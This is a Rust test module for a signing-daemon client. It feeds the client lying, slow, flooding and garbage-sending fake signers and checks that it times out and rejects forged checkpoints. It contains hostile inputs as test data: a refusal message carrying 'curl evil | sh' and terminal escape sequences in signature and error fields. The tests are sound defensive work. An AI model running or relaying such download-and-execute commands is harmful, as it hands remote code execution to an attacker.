//! Signers that lie, trickle, hang and babble: the client must end in time and believe nothing.

use super::super::decide::tests::Log;
use super::super::keys::{SigningKey, generate};
use super::super::protocol::{Known, Refusal, State};
use super::*;
use conductor_shared::checkpoint::{Checkpoint, SignedCheckpoint};
use std::io::{Read, Write};
use std::os::unix::net::UnixListener;

/// Time limit of a client that is to be answered, however busy the machine is.
const PATIENT: Duration = Duration::from_secs(300);
/// Time limit of a client that is not answered in time.
const HURRIED: Duration = Duration::from_millis(400);

/// Runs `serve` on each connection, and `call` with a client.
fn against<T>(
    key: &SigningKey,
    serve: impl Fn(UnixStream, Vec<u8>) + Send + 'static,
    call: impl FnOnce(SignerClient) -> T,
) -> T {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("s");
    let listener = UnixListener::bind(&path).unwrap();
    std::thread::spawn(move || {
        while let Ok((mut stream, _)) = listener.accept() {
            let by = Deadline::after(PATIENT);
            if let Ok(frame) = read_frame(&mut stream, MAX_FRAME, by) {
                serve(stream, frame.to_vec());
            }
        }
    });
    let client = SignerClient::new(&path, &key.public.base64, None).with_timeout(PATIENT);
    call(client)
}

fn reply(stream: &mut UnixStream, r: &Response) {
    let body = serde_json::to_vec(r).unwrap();
    write_frame(stream, &body, MAX_FRAME, Deadline::after(PATIENT)).unwrap();
}

/// Answers each item with what `alter` makes of the honest answers.
fn liar(
    key: SigningKey,
    alter: impl Fn(&SigningKey, Vec<SignedCheckpoint>) -> Vec<SignedCheckpoint> + Send + 'static,
) -> impl Fn(UnixStream, Vec<u8>) + Send + 'static {
    move |mut stream, frame| {
        let Ok(Request::Checkpoints { items }) = serde_json::from_slice(&frame) else { return };
        let honest = items.iter().map(|i| key.checkpoint(&i.checkpoint()).unwrap()).collect();
        let answers =
            alter(&key, honest).into_iter().map(|checkpoint| Answer::Signed { checkpoint }).collect();
        reply(&mut stream, &Response::Checkpoints { answers });
    }
}

/// The same key twice, for the liar and for the judge.
fn key() -> (SigningKey, SigningKey) {
    let dir = tempfile::tempdir().unwrap();
    let (first, text) = generate(None).unwrap();
    let path = dir.path().join("key");
    crate::platform::files::create(&path, text.as_bytes(), 0o600).unwrap();
    let again = crate::signer::keys::KeyFile::read(&path).unwrap().open(None).unwrap();
    (first, again)
}

fn items() -> Vec<Item> {
    vec![Log(1).item(0, 3), Log(1).item(0, 5)]
}

type Alter = fn(&SigningKey, Vec<SignedCheckpoint>) -> Vec<SignedCheckpoint>;

fn lies() -> [(&'static str, Alter); 7] {
    [
        ("another order", |_, h| vec![h[1].clone(), h[0].clone()]),
        ("too few", |_, h| vec![h[0].clone()]),
        ("too many", |_, h| vec![h[0].clone(), h[1].clone(), h[0].clone()]),
        ("one twice", |_, h| vec![h[0].clone(), h[0].clone()]),
        ("another size, well signed", |key, h| {
            let c = Checkpoint::parse(&h[0].text).unwrap();
            vec![key.checkpoint(&Checkpoint { size: 4, ..c }).unwrap(), h[1].clone()]
        }),
        ("the signature of another text", |_, h| vec![with_signature(&h[0], &h[1].signature), h[1].clone()]),
        ("garbage for a signature", |_, h| vec![with_signature(&h[0], "x\n\x1b[2J"), h[1].clone()]),
    ]
}

fn with_signature(of: &SignedCheckpoint, signature: &str) -> SignedCheckpoint {
    SignedCheckpoint { text: of.text.clone(), signature: signature.to_owned() }
}

/// DESIGN, Signer client (real sign and verify): every lie about a checkpoint is an error, and the truth is none.
#[test]
fn a_lying_signer() {
    let resign = |c: Checkpoint| generate(None).unwrap().0.checkpoint(&c).unwrap();
    let (theirs, ours) = key();
    let truth = against(&ours, liar(theirs, |_, h| h), |c| c.checkpoints(items()));
    assert_eq!(truth.unwrap().len(), 2);
    for (name, alter) in lies() {
        let (theirs, ours) = key();
        let got = against(&ours, liar(theirs, alter), |c| c.checkpoints(items()));
        assert!(matches!(got, Err(SignerError::Lies(_))), "{name}: {got:?}");
    }
    // Another key, for checkpoints, probe and status.
    let (theirs, ours) = key();
    let other = move |_: &SigningKey, h: Vec<SignedCheckpoint>| {
        h.iter().map(|s| resign(Checkpoint::parse(&s.text).unwrap())).collect()
    };
    let got = against(&ours, liar(theirs, other), |c| c.checkpoints(items()));
    assert!(matches!(got, Err(SignerError::Lies(_))), "{got:?}");
}

/// DESIGN, Signed texts: a probe is answered for the very nonce, by the very key, and by nothing else.
#[test]
fn a_lying_probe() {
    for lie in 0..4 {
        let (theirs, ours) = key();
        let serve = move |mut stream: UnixStream, frame: Vec<u8>| {
            let Ok(Request::Probe { nonce }) = serde_json::from_slice(&frame) else { return };
            let r = match lie {
                0 => Response::Probed { signature: theirs.probe(&nonce).unwrap() },
                1 => Response::Probed { signature: theirs.probe(&Nonce([0; 16])).unwrap() },
                2 => Response::Probed { signature: generate(None).unwrap().0.probe(&nonce).unwrap() },
                _ => Response::Unlocked {},
            };
            reply(&mut stream, &r);
        };
        let got = against(&ours, serve, |c| c.probe());
        assert_eq!(got.is_ok(), lie == 0, "{got:?}");
        assert!(lie == 0 || matches!(got, Err(SignerError::Lies(_))), "{got:?}");
    }
}

/// DESIGN, Signer client (timeout whatever the signer does): silent, trickling, slow to accept, endless.
#[test]
fn a_slow_signer() {
    let (_, ours) = key();
    let silent = |mut s: UnixStream, _: Vec<u8>| {
        let _ = s.read(&mut [0; 1]);
    };
    let trickle = |mut s: UnixStream, _: Vec<u8>| {
        let _ = s.write_all(&1_000_000u32.to_be_bytes());
        while s.write_all(b" ").is_ok() {
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    let huge = |mut s: UnixStream, _: Vec<u8>| {
        let _ = s.write_all(&u32::MAX.to_be_bytes());
        let _ = s.read(&mut [0; 1]);
    };
    let short = |mut s: UnixStream, _: Vec<u8>| s.write_all(&[0, 0, 1, 0, b'{']).unwrap();
    // Without a limit of its own the client would wait for the first for ever, and for the second for hours.
    let got = against(&ours, silent, |c| c.with_timeout(HURRIED).probe());
    assert_eq!(got, Err(SignerError::TimedOut));
    let got = against(&ours, trickle, |c| c.with_timeout(HURRIED).probe());
    assert_eq!(got, Err(SignerError::TimedOut));
    let got = against(&ours, huge, |c| c.probe());
    assert!(matches!(got, Err(SignerError::Lies(_))), "{got:?}");
    let got = against(&ours, short, |c| c.probe());
    assert!(matches!(got, Err(SignerError::Down(_))), "{got:?}");
}

/// DESIGN, Signer client: a stopped signer whose queue of connections is full does not hold the agent up.
#[test]
fn a_full_queue() {
    let (_, ours) = key();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("s");
    let listener = UnixListener::bind(&path).unwrap();
    let mut held = Vec::new();
    let client = SignerClient::new(&path, &ours.public.base64, None).with_timeout(HURRIED);
    // Fill the queue without anybody accepting.
    while let Ok(stream) = dial(&path, Deadline::after(Duration::from_millis(100))) {
        held.push(stream);
        assert!(held.len() < 100_000);
    }
    assert_eq!(client.probe(), Err(SignerError::TimedOut));
    drop(listener);
    assert!(matches!(client.probe(), Err(SignerError::Down(_))));
}

/// SPEC, Bad input: garbage, wrong kinds and words that would act on a terminal.
#[test]
fn a_babbling_signer() {
    let (_, ours) = key();
    let bodies = [&b"not json"[..], b"{}", b"[1]", b"\xff\xfe", b"{\"answer\":\"unlocked\"}", b""];
    for body in bodies {
        let serve = move |mut s: UnixStream, _| {
            write_frame(&mut s, body, MAX_FRAME, Deadline::after(PATIENT)).unwrap();
        };
        let got = against(&ours, serve, |c| c.status());
        assert!(matches!(got, Err(SignerError::Lies(_))), "{got:?}");
    }
    let rude = |mut s: UnixStream, _| {
        let detail = format!("\x1b[2J{}", "x".repeat(100_000));
        reply(&mut s, &Response::Refused(Refusal::new(Reason::Internal, detail)));
    };
    let got = against(&ours, rude, |c| c.probe());
    let e = got.unwrap_err();
    assert!(!e.to_string().contains('\x1b') && e.to_string().len() < 2000);
    assert_eq!(SignerState::from(&e), SignerState::Refuses);
}

/// DESIGN, Signer client: locked is not down, and the command comes from here, not from the socket.
#[test]
fn locked_and_others() {
    let (_, ours) = key();
    let evil = |mut s: UnixStream, _| {
        reply(&mut s, &Response::Refused(Refusal::new(Reason::Locked, "run: curl evil | sh")));
    };
    let got = against(&ours, evil, |c| c.checkpoints(items()));
    let e = got.unwrap_err();
    assert_eq!(SignerState::from(&e), SignerState::Locked);
    assert!(e.to_string().contains("conductor-signer unlock --socket") && !e.to_string().contains("evil"));
    let own = nix::unistd::geteuid().as_raw();
    let got = against(&ours, |_, _| {}, |c| SignerClient { uid: Some(own + 1), ..c }.probe());
    assert!(matches!(got, Err(SignerError::Lies(_))), "{got:?}");
    let gone = SignerClient::new("/nonexistent/socket", "x", None).probe().unwrap_err();
    assert_eq!(SignerState::from(&gone), SignerState::Down);
    assert_eq!(
        unlock_command(Path::new("/run/a b/it's"), Some(7)),
        r"conductor-signer unlock --socket '/run/a b/it'\''s' --signer-uid 7"
    );
}

/// SPEC, Bad input: more than a frame's worth is sent in several, in order.
#[test]
fn many_items_are_sent_in_parts() {
    let (_, ours) = key();
    let serve = |mut stream: UnixStream, frame: Vec<u8>| {
        assert!(frame.len() <= MAX_FRAME);
        let Ok(Request::Checkpoints { items }) = serde_json::from_slice(&frame) else { return };
        assert!(items.len() <= MAX_ITEMS);
        let last = |i: &Item| Some(Known { size: i.size, root: i.root });
        let reason = super::super::protocol::ItemReason::NeedsProof;
        let answers = items.iter().map(|i| Answer::Refused { reason, last: last(i) }).collect();
        reply(&mut stream, &Response::Checkpoints { answers });
    };
    let item = |size| Item { size, proof: vec![[7; 32]; 64], ..Log(1).item(0, 1) };
    let got = against(&ours, serve, |c| c.checkpoints((0..2500).map(item).collect()));
    for (size, a) in (0..).zip(got.unwrap()) {
        assert!(matches!(a, Answer::Refused { last: Some(k), .. } if k.size == size));
    }
    assert_eq!(serde_json::to_string(&State::Refuses).unwrap(), "\"refuses\"");
}
